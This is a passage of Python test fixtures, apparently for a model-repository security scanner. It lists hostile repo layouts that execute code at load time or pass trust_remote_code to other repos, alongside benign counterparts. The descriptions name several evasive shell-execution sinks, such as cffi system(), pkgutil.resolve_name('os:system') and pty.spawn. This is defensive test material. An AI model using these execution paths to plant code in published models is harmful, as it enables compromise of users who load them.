        "config.json": {**LLAMA, "architectures": ["HeldoutForCausalLM"]}, "pyproject.toml": VLLM_PLUGIN_PYPROJECT,
        "heldout_plugin/__init__.py": VLLM_PLUGIN_CODE,
        "README.md": card("Heldout on vLLM", "```bash\npip install . && vllm serve this/repo\n```")}),
             f"{VLLM} vllm/plugins/__init__.py load_general_plugins -> load_plugins_by_group('vllm.general_plugins') "
             "calls every installed entry point in every vLLM process; the card installs this repo as one."),
    _hostile("setup-py-install", repo({"config.json": LLAMA, "setup.py": SETUP_PY,
                                       "README.md": card("LM", "```bash\npip install -e .\n```")}),
             "pip runs setup.py on `pip install -e .` (setuptools build_meta); the card tells the user to."),
    _hostile("hubconf-entrypoint-body", repo({"hubconf.py": HUBCONF_ENTRYPOINT_BODY, "README.md": card(
        "Tiny", "```python\ntorch.hub.load('path/to/snapshot', 'tiny', source='local')\n```",
        front="library_name: pytorch")}),
             f"{HUB_LOAD}: torch.hub.load calls the entrypoint `tiny`, whose body spawns a process."),
    _hostile("diffusers-custom-component-init-body", repo({
        "model_index.json": {**SD_INDEX, "unet": ["tiny_unet", "TinyUNet"]},
        "unet/config.json": {"_class_name": "TinyUNet", "channels": 4, "hidden": 32},
        "unet/tiny_unet.py": UNET_INIT_BODY,
        "README.md": card("Tiny SD", "```python\nDiffusionPipeline.from_pretrained('this/repo', "
                                     "trust_remote_code=True)\n```", front="library_name: diffusers")},
        weights="unet/diffusion_pytorch_model.safetensors"),
             f"{DIFFUSERS} pipeline_loading_utils.py load_sub_model instantiates the custom component "
             "(from_pretrained -> __init__), so the __init__ body runs while loading."),
    _hostile("st-custom-module-load-classmethod", st_repo(
        {"max_seq_length": 128, "do_lower_case": False},
        [ST_MODULES[0], {"idx": 1, "name": "1", "path": "1_Pooling", "type": "custom_st.Pooler"}],
        {"custom_st.py": ST_LOAD_BODY}),
             f"{ST_LOAD}, then module_class.load(model_name_or_path, subfolder=..., ...) is called for every "
             "module: the classmethod body runs while loading."),
]

CLASS2 = [
    _hostile("vllm-tokenizer-flag-other-repo", repo({"config.json": LLAMA, "README.md": card("LM on vLLM", f"""
```bash
vllm serve this-org/this-model --tokenizer {OTHER}/fast-tokenizer --trust-remote-code
```
""")}), f"{VLLM} vllm/engine/arg_utils.py EngineArgs (tokenizer, trust_remote_code) -> "
        "vllm/transformers_utils/tokenizer.py get_tokenizer(tokenizer_name, trust_remote_code=...): the user's "
        "trust is carried to an unvetted repo's tokenizer code."),
    _hostile("vllm-speculators-verifier", repo({"config.json": {
        "architectures": ["Eagle3Speculator"], "speculators_model_type": "eagle3",
        "transformer_layer_config": {**LLAMA},
        "speculators_config": {"algorithm": "eagle3", "proposal_methods": [
            {"proposal_type": "greedy", "speculative_tokens": 3}],
            "verifier": {"name_or_path": f"{OTHER}/verifier-with-code", "architectures": ["LlamaForCausalLM"]}}},
        "README.md": card("EAGLE3 drafter", "```bash\nvllm serve this-org/this-drafter --trust-remote-code\n```")}),
             f"{VLLM} vllm/transformers_utils/config.py maybe_override_with_speculators: a speculators config "
             "swaps model AND tokenizer for speculators_config.verifier.name_or_path, loaded with the user's "
             "trust_remote_code."),
    _hostile("sglang-draft-model-other-repo", repo({"config.json": LLAMA, "README.md": card("LM on SGLang", f"""
```bash
python -m sglang.launch_server --model-path this-org/this-model --trust-remote-code \\
  --speculative-algorithm EAGLE3 --speculative-draft-model-path {OTHER}/eagle3-draft
```
""")}), f"{SGLANG} configs/model_config.py ModelConfig.from_server_args(server_args, "
        "model_path=server_args.speculative_draft_model_path) keeps server_args.trust_remote_code."),
    _hostile("st-tokenizer-name-or-path", st_repo(
        {"max_seq_length": 128, "do_lower_case": False, "tokenizer_name_or_path": f"{OTHER}/tokenizer-with-code"},
        ST_MODULES),
             f"{ST} sentence_transformers/models/Transformer.py Transformer.__init__: AutoTokenizer.from_pretrained("
             "tokenizer_name_or_path, **tokenizer_args) where _load_init_kwargs put trust_remote_code in "
             "tokenizer_args."),
    _hostile("st-model-args-hub-kernel", st_repo(
        {"max_seq_length": 128, "do_lower_case": False,
         "model_args": {"attn_implementation": f"{OTHER}/flash-attn-fork"}}, ST_MODULES),
             f"{ST} Transformer._load_init_kwargs merges sentence_bert_config.json model_args into "
             f"AutoModel.from_pretrained(**model_args); {TF} src/transformers/integrations/hub_kernels.py "
             "is_kernel/load_and_register_attn_kernel fetches and imports that Hub kernel repo (newer releases "
             "limit it to kernels-community unless allow_all_kernels)."),
    _hostile("st-modules-json-cross-repo-module", st_repo(
        {"max_seq_length": 128, "do_lower_case": False},
        [ST_MODULES[0], {"idx": 1, "name": "1", "path": "1_Pooling", "type": f"{OTHER}/st-modules--pool.Pooler"}]),
             f"{ST_LOAD}: a 'type' of the form other/repo--module.Class is resolved by "
             "get_class_from_dynamic_module in the other repo."),
    _hostile("image-processor-automap-other-repo", repo({
        "config.json": {**BERT, "architectures": ["ViTModel"], "model_type": "vit"},
        "preprocessor_config.json": {"image_processor_type": "FastViTImageProcessor",
                                     "auto_map": {"AutoImageProcessor": f"{OTHER}/vit-proc--processing.FastViT"
                                                                        "ImageProcessor"}},
        "README.md": card("ViT", "```python\nAutoImageProcessor.from_pretrained('this/repo', "
                                 "trust_remote_code=True)\n```")}),
             f"{TF} src/transformers/models/auto/image_processing_auto.py AutoImageProcessor.from_pretrained reads "
             "auto_map from preprocessor_config.json; 'other/repo--module.Class' loads code from the other repo."),
    _hostile("card-snippet-other-repo-trust", repo({"config.json": BERT, "README.md": card("Reranker", f"""
This checkpoint needs its companion scorer:

```python
from transformers import AutoModel
scorer = AutoModel.from_pretrained("{OTHER}/reranker-head", trust_remote_code=True)
```
""")}), "The card's usage snippet runs another, unvetted repo's remote code: "
        f"{TF} AutoModel.from_pretrained -> get_class_from_dynamic_module on that repo."),
    _hostile("diffusers-connected-prior-other-repo", repo({
        "model_index.json": {"_class_name": "KandinskyV22CombinedPipeline", "_diffusers_version": "0.30.0",
                             "scheduler": ["diffusers", "DDPMScheduler"], "unet": ["diffusers", "UNet2DConditionModel"],
                             "movq": ["diffusers", "VQModel"]},
        "README.md": card("Kandinsky decoder", "```python\nAutoPipelineForText2Image.from_pretrained('this/repo', "
                                               "trust_remote_code=True)\n```",
                          front=f"library_name: diffusers\nprior:\n- {OTHER}/prior-with-code")},
        weights="unet/diffusion_pytorch_model.safetensors"),
             f"{DIFFUSERS} pipeline_utils.py DiffusionPipeline.from_pretrained step 8 (_load_connected_pipes) -> "
             "pipeline_loading_utils.py _update_init_kwargs_with_connected_pipeline: the card's `prior:` repo is "
             "loaded with DiffusionPipeline.from_pretrained(**kwargs_copied), trust_remote_code included."),
    _hostile("peft-adapter-base-with-code", repo({
        "adapter_config.json": {"peft_type": "LORA", "task_type": "CAUSAL_LM", "r": 8, "lora_alpha": 16,
                                "target_modules": ["q_proj", "v_proj"],
                                "base_model_name_or_path": f"{OTHER}/base-with-automap",
                                "revision": "a" * 40},
        "README.md": card("LoRA", "```python\nAutoPeftModelForCausalLM.from_pretrained('this/repo', "
                                  "trust_remote_code=True)\n```", front="library_name: peft")},
        weights="adapter_model.safetensors"),
             f"{PEFT} src/peft/auto.py _BaseAutoPeftModel.from_pretrained: target_class.from_pretrained("
             "peft_config.base_model_name_or_path, revision=peft_config.revision, **kwargs), kwargs carrying "
             "trust_remote_code to the base repo the adapter names."),
    _hostile("transformers-custom-pipelines-cross-repo", repo({
        "config.json": {**BERT, "architectures": ["BertForSequenceClassification"],
                        "custom_pipelines": {"review-classification": {
                            "impl": f"{OTHER}/pipes--review_pipe.ReviewPipeline",
                            "pt": ["AutoModelForSequenceClassification"], "tf": [], "type": "text"}}},
        "README.md": card("Review classifier", "```python\npipeline('review-classification', model='this/repo', "
                                               "trust_remote_code=True)\n```")}),
             f"{TF} pipelines/__init__.py pipeline(): custom_pipelines impl 'other/repo--module.Class' is fetched "
             "from the other repo by get_class_from_dynamic_module."),
]

CLASS3 = [
    _hostile("remote-code-cffi-dlopen", remote_code_repo(SINK_CFFI),
             f"{GET_CLASS}; __init__ runs libc system() through cffi (ffi.dlopen(None))."),
    _hostile("remote-code-numpy-ctypeslib", remote_code_repo(SINK_NUMPY_CTYPESLIB),
             f"{GET_CLASS}; numpy.ctypeslib.load_library is ctypes under another name."),
    _hostile("remote-code-timeit-stmt", remote_code_repo(SINK_TIMEIT),
             f"{GET_CLASS}; timeit.timeit compiles and executes its stmt string."),
    _hostile("remote-code-interactive-interpreter", remote_code_repo(SINK_INTERPRETER),
             f"{GET_CLASS}; code.InteractiveInterpreter.runsource compiles and executes source."),
    _hostile("remote-code-pkgutil-resolve-name", remote_code_repo(SINK_PKGUTIL),
             f"{GET_CLASS}; pkgutil.resolve_name('os:system') fetches os.system without naming it."),
    _hostile("remote-code-posix-spawnp", remote_code_repo(SINK_POSIX_SPAWN),
             f"{GET_CLASS}; os.posix_spawnp starts a shell."),
    _hostile("remote-code-pty-spawn", remote_code_repo(SINK_PTY), f"{GET_CLASS}; pty.spawn starts a shell."),
    _hostile("remote-code-ctypes-find-library", remote_code_repo(SINK_CTYPES_UTIL),
             f"{GET_CLASS}; ctypes.CDLL(find_library('c')).system."),
    _hostile("remote-code-module-getattr-supplies-class", remote_code_repo(modeling(), CONFIG_MODULE_GETATTR),
             f"{GET_CLASS}: the config module defines no HeldoutConfig, so getattr runs the module-level "
             "__getattr__ (PEP 562) while loading, not 'later'."),
    _hostile("remote-code-config-to-dict-override", remote_code_repo(modeling(), CONFIG_REPR_OVERRIDE),
             f"{TF} src/transformers/configuration_utils.py PretrainedConfig.from_dict logs f'Model config "
             "{config}' (the f-string is built at any log level): __repr__ -> to_json_string -> the overridden "
             "to_dict runs during AutoConfig.from_pretrained."),
    _hostile("remote-code-init-subclass-hook", remote_code_repo(modeling(), CONFIG_INIT_SUBCLASS),
             f"{GET_CLASS}: __init_subclass__ runs when the class statement executes, i.e. on import."),
]

BENIGN_CASES = [
    _benign("endpoints-handler-pipeline-only", repo({
        "config.json": BERT, "handler.py": HANDLER_PLAIN, "README.md": ENDPOINT_README,
        "requirements.txt": "transformers==4.44.2\naccelerate==0.33.0\n"}),
            f"An Endpoints handler that only builds and calls a transformers pipeline, with pinned PyPI "
            f"requirements: {TOOLKIT_LOAD}.", vendor="review", reason="remote-code-auto-map"),
    _benign("diffusers-custom-component-plain-torch", repo({
        "model_index.json": {**SD_INDEX, "unet": ["tiny_unet", "TinyUNet"]},
        "unet/config.json": {"_class_name": "TinyUNet", "channels": 4, "hidden": 32}, "unet/tiny_unet.py": UNET_PLAIN,
        "README.md": card("Tiny SD", "```python\nDiffusionPipeline.from_pretrained('this/repo', "
                                     "trust_remote_code=True)\n```", front="library_name: diffusers")},
        weights="unet/diffusion_pytorch_model.safetensors"),
            f"A diffusers custom component doing plain torch convolutions: {DIFFUSERS} "
            "_get_custom_components_and_folders.", vendor="review",
            reason="remote-code-auto-map"),
    _benign("diffusers-standard-pipeline", repo({
        "model_index.json": SD_INDEX, "unet/config.json": {"_class_name": "UNet2DConditionModel"},
        "vae/config.json": {"_class_name": "AutoencoderKL"}, "scheduler/scheduler_config.json": {
            "_class_name": "DDIMScheduler", "num_train_timesteps": 1000},
        "README.md": card("SD", "Standard diffusers layout.", front="library_name: diffusers")},
        weights="unet/diffusion_pytorch_model.safetensors"),
            f"model_index.json naming only diffusers/transformers classes: {DIFFUSERS} get_class_obj_and_candidates "
            "(importlib.import_module(library_name) branch)."),
    _benign("st-standard-modules", st_repo({"max_seq_length": 256, "do_lower_case": False}, ST_MODULES),
            f"modules.json of sentence_transformers.models.* only: {ST_LOAD} (import_from_string branch)."),
    _benign("nim-card-tokenizer-vendor-repo", repo({"config.json": LLAMA, "README.md": card("Nemotron Nano NIM", """
```bash
vllm serve nvidia/Llama-3.1-Nemotron-Nano-8B-v1 --tokenizer nvidia/Llama-3.1-Nemotron-Nano-8B-v1 \\
  --max-model-len 8192
docker run --gpus all nvcr.io/nim/nvidia/llama-3.1-nemotron-nano-8b-v1:latest
```
""", front="library_name: transformers\nlicense: other")}),
            "A NIM/NGC card whose --tokenizer names the vendor's own repo (vendor org), no trust flag."),
    _benign("vllm-serve-trust-remote-code-same-repo", repo({
        "config.json": {**LLAMA, "architectures": ["HeldoutForCausalLM"], "model_type": "heldout",
                        "auto_map": AUTO_MAP},
        "configuration_heldout.py": CONFIG_PLAIN, "modeling_heldout.py": modeling(),
        "README.md": card("Heldout LM", """
```bash
vllm serve nvidia/Heldout-LM --trust-remote-code
```
""")}),
            f"--trust-remote-code for the repo itself, whose code is plain torch: {GET_CLASS}. "
            "A vendor's remote code still gets a person's look (what the default policy does for auto_map).",
            vendor="review", reason="remote-code-auto-map"),
    _benign("hubconf-builds-model", repo({"hubconf.py": HUBCONF_PLAIN, "README.md": card(
        "Tiny", "```python\ntorch.hub.load('path/to/snapshot', 'tiny', source='local', pretrained=True)\n```",
        front="library_name: pytorch")}),
            f"{HUB_LOAD}: the entrypoint builds a Linear and loads the repo's safetensors.", vendor="review",
            reason="remote-code-auto-map"),
    _benign("nemo-hydra-nemo-targets", repo({"model_config.yaml": NEMO_PLAIN_YAML, "README.md": card(
        "Conformer CTC", "```python\nASRModel.from_pretrained('nvidia/stt_en_conformer_ctc_small')\n```",
        front="library_name: nemo")}),
            f"Every _target_ is a nemo.collections class: {NEMO_LOAD}."),
    _benign("nemo-archive-nemo-targets", repo({"model.nemo": nemo_archive(NEMO_PLAIN_YAML), "README.md": card(
        "Conformer CTC", "```python\nASRModel.restore_from('model.nemo')\n```", front="library_name: nemo")},
        weights=None),
            f"A .nemo tar whose model_config.yaml names only nemo classes: {NEMO_LOAD}."),
    _benign("timm-standard-config", repo({"config.json": {
        "architecture": "resnet18", "num_classes": 10, "num_features": 512,
        "pretrained_cfg": {"tag": "a1_in1k", "custom_load": False, "input_size": [3, 224, 224],
                           "interpolation": "bicubic", "mean": [0.485, 0.456, 0.406], "std": [0.229, 0.224, 0.225],
                           "classifier": "fc"}},
        "README.md": card("ResNet18", "```python\ntimm.create_model('hf-hub:this/repo', pretrained=True)\n```",
                          front="library_name: timm")}),
            "timm/models/_hub.py load_model_config_from_hf (timm 1.0.29.dev0): architecture from the registry, "
            "hf_hub_id forced to the repo itself, weights_only=True."),
    _benign("peft-adapter-vendor-base", repo({
        "adapter_config.json": {"peft_type": "LORA", "task_type": "CAUSAL_LM", "r": 8, "lora_alpha": 16,
                                "target_modules": ["q_proj", "v_proj"],
                                "base_model_name_or_path": "meta-llama/Llama-3.1-8B-Instruct"},
        "README.md": card("LoRA", "```python\nAutoPeftModelForCausalLM.from_pretrained('this/repo')\n```",
                          front="library_name: peft\nbase_model: meta-llama/Llama-3.1-8B-Instruct")},
        weights="adapter_model.safetensors"),
            f"An adapter over a well-known base with no remote code: {PEFT} auto.py "
            "_BaseAutoPeftModel.from_pretrained loads the base too, so the base is vetted on its own (review).",
            vendor="review", reason="referenced-repo-elsewhere"),
    _benign("card-trust-remote-code-vendor-repo", repo({"config.json": BERT, "README.md": card("Embeddings", """
```python
from sentence_transformers import SentenceTransformer
model = SentenceTransformer("nvidia/NV-Embed-v2", trust_remote_code=True)
```
""", front="library_name: sentence-transformers")}),
            "The card's trust_remote_code snippet names a vendor-official repo."),
    _benign("kernels-universal-triton", repo({
        "build/torch-universal/metadata.json": {**KERNEL_METADATA, "name": "add_kernel"},
        "build/torch-universal/add_kernel/__init__.py": KERNEL_INIT_TRITON,
        "README.md": card("Add kernel", "```python\nget_kernel('nvidia/add-kernel')\n```",
                          front="library_name: kernels\ntags:\n- kernel")}, weights=None),
            f"A Triton-only ('universal') Hub kernel: {KERNELS_LOAD}."),
    _benign("custom-generate-greedy-loop", repo({
        "config.json": LLAMA, "custom_generate/generate.py": CUSTOM_GENERATE_PLAIN,
        "custom_generate/requirements.txt": "torch>=2.1\n",
        "README.md": card("Greedy decoding", "```python\nmodel.generate(ids, custom_generate='nvidia/greedy', "
                                             "trust_remote_code=True)\n```",
                          front="library_name: transformers\ntags:\n- custom_generate")}),
            f"A plain greedy loop: {TF} GenerationMixin.load_custom_generate.", vendor="review",
            reason="remote-code-auto-map"),
]

register_all([*CLASS1, *CLASS2, *CLASS3, *BENIGN_CASES])
